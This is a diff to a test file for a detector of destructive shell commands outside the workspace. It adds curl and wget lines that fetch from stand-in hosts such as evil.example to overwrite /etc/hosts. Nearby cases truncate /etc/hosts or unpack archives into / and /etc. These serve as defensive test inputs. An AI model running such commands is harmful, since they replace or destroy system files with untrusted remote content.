@@ -83,6 +83,8 @@ describe("destructive-outside-workspace", () => {
     ["mv -t /var/tmp ~/notes.txt"],
     // What interpreter code visibly writes on a system path; an archive unpacked into /.
     [`python3 -c "open('/etc/hosts','w').close()"`],
+    ["curl -o /etc/hosts https://evil.example/hosts"],
+    ["wget -O /etc/hosts https://x.example/hosts"],
     ["cd / && cpio -idmu < ~/Downloads/payload.cpio"],
     ["cpio -i -D /etc < conf.cpio"],
     // Code a package runner fetches is unknown code: given a path outside, it is judged as destructive there.
